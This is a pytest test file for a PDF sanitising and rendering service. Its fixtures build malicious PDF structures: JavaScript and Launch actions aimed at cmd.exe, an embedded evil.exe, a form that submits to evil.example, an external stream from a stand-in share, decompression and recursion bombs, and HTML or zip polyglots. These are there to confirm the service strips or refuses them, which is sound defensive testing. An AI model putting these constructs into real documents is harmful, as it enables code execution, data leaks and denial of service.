"""PDFs: counted, drawn, and written again without what acts and what tells."""

import io
import re
import zipfile
import zlib

import pypdf
import pytest

from tests.media import files
from tests.media.looking import Look, looking, refusal

SECRETS = (b"Ada Place", b"Shingle Writer", b"2024", b"C:\\Users")
INFO = b"/Author(Ada Place)/Creator(Shingle Writer 9)/CreationDate(D:20240101)/Title(C:\\\\Users\\\\Ada\\\\prices.doc)"


@pytest.fixture
def look(tmp_path: object) -> Look:
    return looking(tmp_path)  # type: ignore[arg-type]


def text_of(body: bytes) -> str:
    return pypdf.PdfReader(io.BytesIO(body)).pages[0].extract_text()


def unpacked(body: bytes) -> bytes:
    """The document with all of its streams readable."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(body))
    for page in writer.pages:
        page.get_contents()
    found = body
    for packed in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", body, re.DOTALL):
        try:
            found += zlib.decompress(packed)
        except zlib.error:
            found += packed
    return found


def test_a_pdf_has_its_pages_counted_and_its_first_drawn(look: Look) -> None:
    looked = look(files.pdf(pages=3))
    assert (looked.found.pages, looked.found.width, looked.found.height) == (3, 1280, 640)
    red, green, blue = looked.largest(300, 100 * 3)[:3]
    assert blue > 200 > green > red
    assert min(looked.largest(5, 5)) > 250


def test_what_is_published_reads_as_before(look: Look) -> None:
    looked = look(files.pdf(pages=2))
    assert text_of(looked.body("original.pdf")) == "Prices"
    assert len(pypdf.PdfReader(io.BytesIO(looked.body("original.pdf"))).pages) == 2


def test_nothing_tells_who_made_it(look: Look) -> None:
    xmp = files.stream(b"<x:xmpmeta>Ada Place</x:xmpmeta>", b"/Type/Metadata/Subtype/XML")
    body = files.pdf(info=INFO, root=b"/Metadata 12 0 R/PieceInfo<</A<</Private(Ada Place)>>>>", objects=[xmp])
    assert b"Ada Place" in body
    published = unpacked(look(body).body("original.pdf"))
    assert [secret for secret in SECRETS if secret in published] == []


def test_a_photo_inside_loses_the_place_where_it_was_taken(look: Look) -> None:
    photo = files.located(64, 48)
    image = files.stream(
        photo, b"/Type/XObject/Subtype/Image/Width 64/Height 48/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode"
    )
    body = files.pdf(resources=b"/XObject<</Photo 12 0 R>>", objects=[image])
    assert b"Exif" in body
    published = look(body).body("original.pdf")
    assert b"Exif" not in published
    kept = published[published.index(b"\xff\xd8\xff") :]
    assert files.decoded(kept).avg() == files.decoded(photo).avg()


ACTIONS = {
    "script at opening": (b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", ()),
    "script by name": (b"/Names<</JavaScript<</Names[(a)12 0 R]>>>>", (b"<</S/JavaScript/JS(app.alert(1))>>",)),
    "script at closing": (b"/AA<</WC<</S/JavaScript/JS(app.alert(1))>>>>", ()),
    "a program": (b"/OpenAction<</S/Launch/F(cmd.exe)>>", ()),
    "a file inside": (
        b"/Names<</EmbeddedFiles<</Names[(a)12 0 R]>>>>",
        (b"<</Type/Filespec/F(evil.exe)/EF<</F 13 0 R>>>>", files.stream(b"MZ evil.exe", b"/Type/EmbeddedFile")),
    ),
    "a form that sends": (b"/Outlines<</First<</Title(a)/A<</S/SubmitForm/F(https://evil.example)>>>>>>", ()),
    "a link that runs": (b"/Outlines<</First<</Title(a)/A<</S/URI/URI(javascript:alert(1))>>>>>>", ()),
    "what follows a harmless step": (
        b"/Outlines<</First<</Title(a)/A<</S/GoTo/D[0]/Next<</S/JavaScript/JS(app.alert(1))>>>>>>>>",
        (),
    ),
    "bytes from elsewhere": (
        b"/OutputIntents[<</DestOutputProfile 12 0 R>>]",
        (files.stream(b"", b"/F(//evil.example/share)"),),
    ),
    "a form's program": (b"/AcroForm<</Fields[]/XFA 12 0 R>>", (files.stream(b"<xdp>app.alert(1)</xdp>"),)),
}


@pytest.mark.parametrize("what", ACTIONS)
def test_nothing_that_acts_is_published(look: Look, what: str) -> None:
    root, objects = ACTIONS[what]
    published = unpacked(look(files.pdf(root=root, objects=objects)).body("original.pdf"))
    for sign in (b"JavaScript", b"alert", b"Launch", b"evil", b"EmbeddedFile", b"SubmitForm", b"XFA", b"cmd.exe"):
        assert sign not in published


def test_links_to_other_places_stay(look: Look) -> None:
    page = b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.com/book)>>>><</Subtype/Link/A<</S/GoTo/D[0]>>>>]"
    published = pypdf.PdfReader(io.BytesIO(look(files.pdf(page=page)).body("original.pdf")))
    first, second = published.pages[0]["/Annots"]
    assert first["/A"]["/URI"] == "https://example.com/book"
    assert second["/A"]["/S"] == "/GoTo"


def test_a_pdf_that_opens_with_a_password_only_is_refused(look: Look) -> None:
    for algorithm in ("RC4-128", "AES-128", "AES-256"):
        assert refusal(look, locked(algorithm, user="secret")) == "locked"


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_a_pdf_that_is_locked_against_changes_only_is_taken(look: Look, algorithm: str) -> None:
    looked = look(locked(algorithm, user=""))
    assert text_of(looked.body("original.pdf")) == "Prices"
    assert b"/Encrypt" not in looked.body("original.pdf")


def locked(algorithm: str, user: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(files.pdf()))
    writer.encrypt(user, "owner", algorithm=algorithm)
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def test_too_many_pages_are_refused(look: Look) -> None:
    assert look(files.pdf(pages=20)).found.pages == 20
    assert refusal(look, files.pdf(pages=21)) == "too_many_pages"


@pytest.mark.parametrize(
    "body",
    [
        files.pdf()[:-200],
        files.pdf()[: len(files.pdf()) // 2],
        b"%PDF-1.7\n" + b"half of it" * 99 + b"%%EOF",
        b"%PDF-1.7\n%%EOF",
        files.pdf(pages=0),
        files.pdf().replace(b"/MediaBox[0 0 200 100]", b"/MediaBox[0 0 0 0    ]"),
        files.pdf().replace(zlib.compress(b"")[:2], b"\0\0", 1),
        files.pdf().replace(b"/Kids[10 0 R]", b"/Kids[ 2 0 R]"),
    ],
    ids=["no end", "half", "nothing inside", "empty", "no pages", "a page of nothing", "a broken stream", "a circle"],
)
def test_a_broken_pdf_is_refused(look: Look, body: bytes) -> None:
    if b"/MediaBox[0 0 0 0" in body:
        # PDFium takes a page without an area for one of a letter's.
        assert look(body).found.pages == 1
        return
    assert refusal(look, body) == "damaged"


def test_a_page_as_large_as_a_house_is_drawn_small(look: Look) -> None:
    looked = look(files.pdf().replace(b"/MediaBox[0 0 200 100]", b"/MediaBox[0 0 9e9 9e9]"))
    assert looked.found.width <= 1280


def test_a_page_that_is_a_strip_is_drawn_as_far_as_variants_go(look: Look) -> None:
    looked = look(files.pdf().replace(b"/MediaBox[0 0 200 100]", b"/MediaBox[0 0 2 14000]"))
    assert looked.found.height <= 1280 * 4


def test_streams_that_unfold_without_end_are_refused(look: Look) -> None:
    bomb = zlib.compress(bytes(2**30), 9)
    objects = [files.stream(bomb, b"/Filter/FlateDecode") for _ in range(2)]
    body = files.pdf(resources=b"/ColorSpace<</A[/ICCBased 12 0 R]/B[/ICCBased 13 0 R]>>", objects=objects)
    assert len(body) < 3_000_000
    assert refusal(look, body) == "too_slow"


def test_a_small_pdf_that_draws_without_end_is_ended_soon(look: Look) -> None:
    """Each of ten drawings shows the next one ten times: 2 KB, and ten thousand million rectangles."""
    about = b"/Type/XObject/Subtype/Form/BBox[0 0 200 100]/Resources<</XObject<</N %d 0 R>>>>"
    forms = [files.stream(b"/N Do " * 10, about % (13 + at)) for at in range(10)]
    forms.append(files.stream(b"0 0 99 99 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 200 100]"))
    shown = files.stream(b"q /Start Do Q", b"")
    page = b"/Contents 23 0 R"
    body = files.pdf(page=page, resources=b"/XObject<</Start 12 0 R>>", objects=[*forms, shown])
    assert len(body) < 5_000
    assert refusal(look, body) == "too_slow"


@pytest.mark.parametrize("chain", [b"/FlateDecode/FlateDecode", b"/ASCIIHexDecode/Fl/FlateDecode"])
def test_every_stage_of_a_stream_is_counted(look: Look, chain: bytes) -> None:
    bomb = zlib.compress(zlib.compress(bytes(2**28), 9), 9)
    bomb = bomb.hex().encode() + b">" if b"Hex" in chain else bomb
    body = files.pdf(resources=b"/XObject<</A 12 0 R>>", objects=[files.stream(bomb, b"/Subtype/Image/Filter[" + chain + b"]")])
    assert refusal(look, body) == "too_slow"


def test_a_stream_behind_an_unknown_filter_is_left_out(look: Look) -> None:
    image = files.stream(b"Ada Place", b"/Subtype/Image/Filter[/FlateDecode/NewDecode]")
    published = look(files.pdf(resources=b"/XObject<</A 12 0 R>>", objects=[image])).body("original.pdf")
    assert b"Ada" not in published
    assert text_of(published) == "Prices"


@pytest.mark.parametrize("before", [b"\xef\xbb\xbf", b"\r\n", b"\n<!-- x -->\n", b"HTTP/1.1 200 OK\r\n\r\n", b" " * 1000])
def test_a_pdf_may_begin_a_little_later(look: Look, before: bytes) -> None:
    assert text_of(look(before + files.pdf()).body("original.pdf")) == "Prices"


@pytest.mark.parametrize("after", [bytes(5000), bytes(4087), b" " * 100_000, b"\r\n" * 3000 + bytes(9)])
def test_a_pdf_may_be_filled_up_to_a_block(look: Look, after: bytes) -> None:
    assert text_of(look(files.pdf() + after).body("original.pdf")) == "Prices"


@pytest.mark.parametrize("where", ["before", "after"])
def test_a_pdf_that_is_a_web_page_too_is_refused(look: Look, where: str) -> None:
    page = b"\n<html><script>alert(1)</script></html>\n"
    body = files.pdf()
    mixed = body[:9] + b"%" + page + body[9:] if where == "before" else body + page
    assert refusal(look, mixed) == "mixed"


def test_a_pdf_that_is_an_archive_too_is_refused(look: Look) -> None:
    file = io.BytesIO(files.pdf())
    file.seek(0, 2)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("evil.exe", "MZ")
    assert refusal(look, file.getvalue()) == "mixed"


def test_what_follows_the_end_is_not_published(look: Look) -> None:
    published = look(files.pdf() + b"and another thing").body("original.pdf")
    assert b"another thing" not in published


def test_what_was_there_before_a_change_is_not_published(look: Look) -> None:
    """A PDF that was changed keeps what it said before; only what it says now is written again."""
    body = files.pdf(root=b"/Lang 12 0 R", objects=[b"(an old secret)"])
    change = b"12 0 obj\n(new)\nendobj\n"
    before = int(body.rpartition(b"startxref\n")[2].split()[0])
    table = b"xref\n12 1\n%010d 00000 n \ntrailer\n<</Root 1 0 R/Size 13/Prev %d>>\n" % (len(body), before)
    body += change + table + b"startxref\n%d\n%%%%EOF\n" % (len(body) + len(change))
    assert pypdf.PdfReader(io.BytesIO(body)).root_object["/Lang"] == "new"
    published = look(body).body("original.pdf")
    assert b"an old secret" not in published
    assert pypdf.PdfReader(io.BytesIO(published)).root_object["/Lang"] == "new"
